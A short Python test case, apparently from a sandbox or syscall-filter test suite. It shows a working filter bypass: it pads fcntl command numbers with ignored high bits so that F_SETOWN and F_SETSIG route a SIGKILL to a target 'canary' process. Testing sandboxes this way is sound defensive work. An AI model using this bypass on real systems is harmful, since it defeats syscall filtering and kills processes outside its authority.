"""Has the kernel signal another process, by a command with more bits than the kernel looks at."""

import os
import signal

from kit import syscall

KIND = "killed"
MORE = 1 << 32


def attack(canary):
    ours, theirs = os.pipe()
    syscall("fcntl", ours, MORE | 8, canary["process"])  # F_SETOWN
    syscall("fcntl", ours, MORE | 10, signal.SIGKILL)  # F_SETSIG
    syscall("fcntl", ours, 4, os.O_ASYNC | os.O_NONBLOCK)  # F_SETFL
    os.write(theirs, b"x")
